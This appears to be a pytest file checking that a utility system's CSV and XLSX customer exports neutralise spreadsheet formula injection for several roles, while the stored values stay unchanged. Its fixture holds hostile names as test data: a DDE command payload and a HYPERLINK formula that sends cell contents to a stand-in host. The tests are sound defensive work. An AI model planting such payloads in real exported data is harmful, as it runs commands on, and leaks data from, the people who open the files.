"""Exports never carry a live spreadsheet formula, for any role; the stored values stay as they were."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest
from sqlalchemy import select, update

from api.exports import EXPORT_COLUMNS
from gis.db import make_engine
from gis.models import Customer

FUSE = "SW000030"
HOSTILE_NAMES = ["=cmd|'/C calc'!A0", '=HYPERLINK("http://x.example/?"&A2,"x")', "@SUM(A1)", "\t=1+1"]


@pytest.fixture(scope="module")
def hostile(api_url):
    """Four customers behind the fuse renamed to formulas (written straight into the store)."""
    import httpx
    with httpx.Client(base_url=api_url, headers=api_url.headers("dispatcher"), timeout=30) as c:
        accounts = sorted(c.get(f"/api/v1/trace/switch/{FUSE}/downstream").json()["customers"])[:4]
    engine = make_engine(api_url.database_url)
    try:
        with engine.begin() as conn:
            for acct, name in zip(accounts, HOSTILE_NAMES):
                conn.execute(update(Customer).where(Customer.account_no == acct).values(name=name))
        yield dict(zip(accounts, HOSTILE_NAMES)), engine
    finally:
        engine.dispose()


def _plan(client_as) -> int:
    r = client_as("planner").post("/api/v1/plans", json={"title": "formulas",
                                                        "steps": [{"action": "open", "element": FUSE}]})
    assert r.status_code == 201, r.text
    return r.json()["id"]


@pytest.mark.parametrize("role", ["dispatcher", "planner"])
def test_csv_export_prefixes_formula_cells(hostile, client_as, role):
    names, _ = hostile
    r = client_as(role).get(f"/api/v1/plans/{_plan(client_as)}/impact/customers.csv")
    assert r.status_code == 200
    rows = {row["account_no"]: row for row in csv.DictReader(io.StringIO(r.content.decode("utf-8-sig")))}
    for acct in names:
        assert rows[acct]["name"].startswith("'"), rows[acct]["name"]
    # numbers are not touched
    assert all(float(row["lon"]) > 100 for row in rows.values())


@pytest.mark.parametrize("role", ["dispatcher", "analyst"])
def test_xlsx_export_has_no_formula_cell(hostile, client_as, role):
    names, _ = hostile
    r = client_as(role).post("/api/v1/impact/export?format=xlsx", json={"open": [FUSE]})
    assert r.status_code == 200, r.text
    sheet_xml = zipfile.ZipFile(io.BytesIO(r.content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    ws = openpyxl.load_workbook(io.BytesIO(r.content))["customers"]
    rows = {row[0].value: row for row in ws.iter_rows(min_row=2)}
    name_col = EXPORT_COLUMNS.index("name")
    for acct in names:
        assert rows[acct][name_col].data_type == "s"
    if role == "dispatcher":  # the value itself is exact (no apostrophe in XLSX)
        assert {a: rows[a][name_col].value for a in names} == names


def test_the_stored_names_are_unchanged(hostile, client_as):
    names, engine = hostile
    client_as("dispatcher").get(f"/api/v1/plans/{_plan(client_as)}/impact/customers.csv")
    with engine.connect() as conn:
        stored = dict(conn.execute(select(Customer.account_no, Customer.name)
                                   .where(Customer.account_no.in_(list(names)))).all())
    assert stored == names
